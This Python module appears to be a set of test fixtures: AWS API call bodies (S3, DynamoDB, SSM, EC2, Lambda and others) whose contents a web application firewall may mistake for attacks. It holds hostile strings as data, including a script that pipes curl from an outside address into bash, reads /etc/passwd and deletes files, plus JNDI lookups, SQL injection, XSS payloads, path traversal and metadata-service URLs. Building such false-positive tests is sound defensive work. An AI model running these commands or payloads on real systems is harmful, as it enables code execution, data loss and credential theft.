"""Bodies of calls that engineers send, with text that web application firewalls take for attacks."""

import base64
from typing import Any

_TEMPLATE = """AWSTemplateFormatVersion: "2010-09-09"
Resources:
  Host:
    Type: AWS::EC2::Instance
    Properties:
      UserData:
        Fn::Base64: |
          #!/bin/bash
          curl -s http://169.254.169.254/latest/meta-data/instance-id
"""
_PAGE = "<html><body onload=\"start()\"><script>document.write('<b>Orders</b>')</script></body></html>"
_INSTALL = "#!/bin/bash\ncat /etc/passwd | cut -d: -f1; curl http://203.0.113.9/setup.sh | bash; rm -rf ../../tmp/*\n"

CALLS: tuple[tuple[str, str, str, dict[str, Any]], ...] = (
    ("a key like a page", "s3", "GetObject", {"Bucket": "logs", "Key": "a.php?file=http://203.0.113.9/b"}),
    ("a key with markup", "s3", "HeadObject", {"Bucket": "site", "Key": "drafts/<script>alert(1)</script>.html"}),
    ("a page", "s3", "PutObject", {"Bucket": "site", "Key": "index.html", "Body": "PGh0bWw+", "Metadata": {"t": "x"}}),
    (
        "a source address",
        "s3",
        "CopyObject",
        {"Bucket": "out", "Key": "a?file=http://203.0.113.9/x.php", "CopySource": "in/../a"},
    ),
    (
        "HTML in an item",
        "dynamodb",
        "PutItem",
        {"TableName": "orders", "Item": {"id": {"S": "1"}, "page": {"S": _PAGE}}},
    ),
    (
        "SQL in a statement",
        "dynamodb",
        "ExecuteStatement",
        {"Statement": "SELECT * FROM \"orders\" WHERE id = '1' OR '1'='1' -- all"},
    ),
    (
        "SQL in a query",
        "athena",
        "StartQueryExecution",
        {"QueryString": "SELECT a FROM t UNION SELECT b FROM u; -- <script>", "WorkGroup": "w"},
    ),
    (
        "a lookup in a log query",
        "logs",
        "StartQuery",
        {
            "logGroupName": "/app",
            "startTime": 1,
            "endTime": 2,
            "queryString": "filter @message like '${jndi:ldap://203.0.113.9/a}'",
        },
    ),
    (
        "a filter for traversals",
        "logs",
        "FilterLogEvents",
        {"logGroupName": "/web", "filterPattern": '"GET /../../../etc/passwd"'},
    ),
    (
        "shell commands",
        "ssm",
        "SendCommand",
        {
            "DocumentName": "AWS-RunShellScript",
            "InstanceIds": ["i-0123456789abcdef0"],
            "Parameters": {"commands": [_INSTALL]},
        },
    ),
    (
        "a parameter with an address",
        "ssm",
        "PutParameter",
        {"Name": "/app/url", "Value": "http://169.254.169.254/latest/meta-data/", "Type": "String"},
    ),
    (
        "user data that reads the metadata service",
        "ec2",
        "RunInstances",
        {
            "ImageId": "ami-0123456789abcdef0",
            "MinCount": 1,
            "MaxCount": 1,
            "UserData": base64.b64encode(_INSTALL.encode()).decode(),
            "TagSpecifications": [
                {
                    "ResourceType": "instance",
                    "Tags": [{"Key": "imds", "Value": "http://169.254.169.254/latest/user-data"}],
                }
            ],
        },
    ),
    (
        "a template with user data",
        "cloudformation",
        "CreateStack",
        {"StackName": "host", "TemplateBody": _TEMPLATE},
    ),
    (
        "Java in a message",
        "sqs",
        "SendMessage",
        {
            "QueueUrl": "https://sqs.eu-west-1.amazonaws.com/444455556666/q",
            "MessageBody": 'log("(java.lang.Runtime).getRuntime().exec(\\"whoami\\")")',
        },
    ),
    (
        "markup in a notice",
        "sns",
        "Publish",
        {"TopicArn": "arn:aws:sns:eu-west-1:444455556666:t", "Message": "<img src=x onerror=alert(1)>"},
    ),
    (
        "an event for a function",
        "lambda",
        "Invoke",
        {
            "FunctionName": "render",
            "Payload": base64.b64encode(b'{"html": "<script>alert(1)</script>"}').decode(),
            "ClientContext": "${jndi:ldap://203.0.113.9/a}",
        },
    ),
    (
        "a policy with wildcards",
        "iam",
        "CreatePolicy",
        {
            "PolicyName": "p",
            "PolicyDocument": '{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"*","Resource":"*"}]}',
            "Description": "see ../../docs and http://203.0.113.9/p.php",
        },
    ),
    ("an upload", "s3", "PutObject", {"Bucket": "b", "Key": "k", "Body": "QUFB" * 1_200_000}),
    (
        "a batch of 200 kB",
        "kinesis",
        "PutRecords",
        {"StreamName": "s", "Records": [{"Data": "QUFB" * 5000, "PartitionKey": str(n)} for n in range(10)]},
    ),
)
"""Each is a name, a service, an operation and the operation's parameters."""
